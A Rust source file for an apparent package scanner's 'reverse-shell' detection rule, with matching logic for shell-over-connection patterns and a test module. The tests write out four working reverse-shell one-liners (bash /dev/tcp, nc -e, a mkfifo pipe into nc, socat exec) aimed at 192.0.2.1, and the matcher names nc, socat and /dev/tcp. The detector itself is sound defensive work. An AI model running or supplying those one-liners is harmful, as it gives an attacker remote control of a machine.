//! A shell whose input and output are a connection to somebody else.

use std::collections::BTreeMap;

use super::context::{Context, Findings, from_to, step};
use super::{Rule, RuleClass, command};
use crate::event::{Effect, Event, Role, Source};
use crate::finding::Severity;
use crate::place::{FileId, Place};

pub(crate) const RULE: Rule = Rule {
    code: "reverse-shell",
    title: "a shell is connected to somebody else",
    class: RuleClass::Process,
    cwe: Some(506),
    severity: Severity::Critical,
    check,
};

fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
    let mut connected: BTreeMap<FileId, &Event> = BTreeMap::new();
    for event in context.of(&[Effect::Connect]) {
        connected.entry(event.place.file).or_insert(event);
    }
    let answered = answered(context);
    for event in context.of(&[Effect::Spawn, Effect::Shell]) {
        let line = command::line(event);
        if is_known_form(&line) {
            let message = format!("the command {} gives a shell to another machine", super::shown(&line));
            findings.add(Severity::Critical, event.place, message);
        } else if let Some(connection) = connected.get(&event.place.file)
            && is_bare_shell(event)
        {
            let evidence = vec![
                step(connection.place, format!("it connects by {}", super::shown(&connection.api))),
                step(event.place, format!("a shell starts: {}", super::shown(&line))),
            ];
            let message = "a shell that takes commands starts beside a connection";
            findings.chain(Severity::Critical, event.place, message, evidence);
        } else if let Some(origin) = remote_command(event) {
            let evidence = from_to(origin, "a command is received from", event, "it is run");
            let message = "commands that come over a connection are run";
            findings.chain(Severity::Critical, event.place, message, evidence);
        } else if let Some(answer) = answered.get(&event.place)
            && is_anything(event)
        {
            let evidence = vec![
                step(event.place, "a command that is not the package's own is run"),
                step(answer.place, format!("what it wrote goes back by {}", super::shown(&answer.api))),
            ];
            let message = "any command is run and what it wrote is sent over a connection";
            findings.chain(Severity::Critical, event.place, message, evidence);
        }
    }
}

/// Where programs start whose output goes into a connection, with the sending.
fn answered<'a>(context: &Context<'a>) -> BTreeMap<Place, &'a Event> {
    let mut answered = BTreeMap::new();
    for sent in context.of(&[Effect::Connect]) {
        // A socket with a path leads to another program on the same machine.
        if sent.argument(Role::Path).is_some() {
            continue;
        }
        for origin in sent.origins(&[Role::Data], Source::ProcessOutput) {
            answered.entry(origin.place).or_insert(sent);
        }
    }
    answered
}

/// Whether a whole command line is not known, so that it is whatever somebody says.
fn is_anything(event: &Event) -> bool {
    event.effect == Effect::Shell
        && event.argument(Role::Command).is_some_and(|command| command.pieces().is_empty())
}

/// The whole program that runs is what came from the network.
fn remote_command(event: &Event) -> Option<&crate::Origin> {
    let command = event.argument(Role::Command)?;
    let origin = command.origins.iter().find(|origin| origin.source == Source::Network)?;
    // What was fetched by HTTP is another rule's: here somebody sits at the other end.
    let over_http = origin.name.as_deref().is_some_and(|name| name.starts_with("http"));
    (!over_http && command.pieces().is_empty()).then_some(origin)
}

fn is_bare_shell(event: &Event) -> bool {
    let commands = command::commands(event);
    let [only] = commands.as_slice() else { return false };
    let shells = ["sh", "bash", "zsh", "dash", "ksh", "cmd", "powershell", "pwsh"];
    shells.contains(&only.program().as_str())
        && only.arguments().iter().all(|word| {
            matches!(word.to_ascii_lowercase().as_str(), "-i" | "-l" | "-li" | "-il" | "-nop" | "-noprofile" | "-")
        })
}

fn is_known_form(line: &str) -> bool {
    let line = line.to_ascii_lowercase();
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
        return true;
    }
    if line.contains("mkfifo") && (line.contains("nc ") || line.contains("openssl s_client")) {
        return true;
    }
    if line.contains("socat") && line.contains("exec:") {
        return true;
    }
    let mut found = Vec::new();
    command::parse(&line, 2, &mut found);
    found.iter().any(|one| {
        matches!(one.program().as_str(), "nc" | "ncat" | "netcat")
            && one.arguments().iter().any(|word| {
                word == "--exec" || word == "--sh-exec" || is_flag(word, 'e') || is_flag(word, 'c')
            })
    })
}

/// `-e`, or `e` among flags that are written together.
fn is_flag(word: &str, flag: char) -> bool {
    word.strip_prefix('-').is_some_and(|flags| !flags.starts_with('-') && flags.contains(flag))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::made::{Made, from, text};

    fn shell(line: &str) -> Made {
        Made::new().event(Effect::Shell, "py:os.system", &[(Role::Command, text(line))])
    }

    #[test]
    fn every_known_form_is_found_and_a_scan_of_ports_is_not() {
        for line in [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 1 > f",
            "socat tcp:192.0.2.1:1 exec:sh",
        ] {
            assert_eq!(shell(line).found(RULE.code), [Severity::Critical], "{line}");
        }
        assert!(shell("nc -z localhost 80").found(RULE.code).is_empty());
    }

    #[test]
    fn a_shell_beside_a_connection_and_commands_from_one_are_found() {
        let beside = Made::new()
            .event(Effect::Connect, "node:net.connect", &[])
            .event(Effect::Spawn, "node:child_process.spawn", &[(Role::Command, text("/bin/sh"))]);
        assert_eq!(beside.found(RULE.code), [Severity::Critical]);
        let received = from(Source::Network, None);
        let remote = Made::new().event(Effect::Shell, "py:os.system", &[(Role::Command, received)]);
        assert_eq!(remote.found(RULE.code), [Severity::Critical]);
        assert!(shell("bash build.sh").found(RULE.code).is_empty());
    }

    #[test]
    fn a_command_that_is_answered_over_a_connection_is_found() {
        let output = crate::Value {
            origins: vec![crate::Origin {
                source: Source::ProcessOutput,
                place: crate::made::place(0),
                name: None,
            }],
            ..crate::Value::default()
        };
        let run = |command| {
            Made::new()
                .event(Effect::Shell, "node:child_process.exec", &[(Role::Command, command)])
                .event(Effect::Connect, "js:WebSocket.send", &[(Role::Data, output.clone())])
                .found(RULE.code)
        };
        assert_eq!(run(from(Source::Caller, Some("message"))), [Severity::Critical]);
        assert!(run(text("git status")).is_empty());
    }
}
